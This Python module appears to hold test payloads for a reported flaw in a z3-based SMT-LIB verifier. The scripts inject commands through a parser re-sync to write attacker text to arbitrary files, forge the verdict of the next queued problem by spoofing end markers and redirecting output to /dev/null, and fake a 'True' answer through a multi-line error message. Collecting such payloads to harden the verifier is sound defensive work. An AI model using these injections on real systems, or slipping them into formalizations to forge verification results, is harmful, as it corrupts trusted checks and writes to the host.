"""Issue 18's SMT-LIB attacks, as scripts a dataset's gold formalization or a model could carry.

Each payload is a whole script (declarations, assertions, ``conclusion``) that the reader of
cbb78db accepted. ``write_file`` made z3 create a file with attacker text; ``poisoner`` forged the
verdict of the problem after it through the warm worker; ``forge_by_error`` forged its own verdict
with answer lines inside an error message that quotes a ``|symbol|``.
"""

from __future__ import annotations

from pathlib import Path

__all__ = ["write_file", "poisoner", "forge_by_error", "VICTIM", "pigeonhole"]

VICTIM = "(declare-const y Int)\n(assert (= y 0))\n(define-fun conclusion () Bool (> y 1))\n"
"""An honest problem: its answer is False."""


def write_file(target: Path) -> str:
    """z3 re-syncs after the scanner error at the stray backslash and runs the 'nested' commands."""
    return ("(declare-const x Int)\n"
            f'(assert (foo) \\ (set-option :regular-output-channel "{target}") "")\n'
            '(assert (foo) \\ (echo "text an attacker chose") "")\n'
            "(define-fun conclusion () Bool (> x 1))\n")


def pigeonhole(pigeons: int = 11) -> str:
    """Hard for CDCL: z3 spends its whole budget on it."""
    holes = pigeons - 1
    lines = [f"(declare-const p_{i}_{j} Bool)" for i in range(pigeons) for j in range(holes)]
    lines += [f"(assert (or {' '.join(f'p_{i}_{j}' for j in range(holes))}))" for i in range(pigeons)]
    lines += [f"(assert (not (and p_{i}_{j} p_{k}_{j})))" for j in range(holes) for i in range(pigeons) for k in range(i + 1, pigeons)]
    return "\n".join(lines) + "\n"


def poisoner(end_marker: str = "@nesyflow-end") -> str:
    """Prints the warm worker's end marker early (its own run ends there), burns a second in a
    check-sat nobody asked for while the next problem is queued, then prints that problem's answers
    (consistent; P∧¬C unsat; P∧C sat — i.e. True) and a second end marker, and sends the rest of
    the output, the next problem's real answers included, to /dev/null."""
    smuggled = (f'(echo "{end_marker}") (check-sat-using (try-for smt 1000)) (echo "unsat") (echo "sat") '
                f'(echo "{end_marker}") (set-option :regular-output-channel "/dev/null")')
    return pigeonhole() + f'(assert (foo) \\ {smuggled} "")\n(define-fun conclusion () Bool true)\n'


def forge_by_error() -> str:
    """False in truth (x = 0, conclusion x > 1); the unknown constant's error message spans lines,
    three of which read like answers: consistent, P∧¬C unsat, P∧C sat — True."""
    return ("(declare-const x Int)\n(assert (= x 0))\n"
            '(assert (= x |a"\nsat\nunsat\nsat\nz|))\n'
            "(define-fun conclusion () Bool (> x 1))\n")
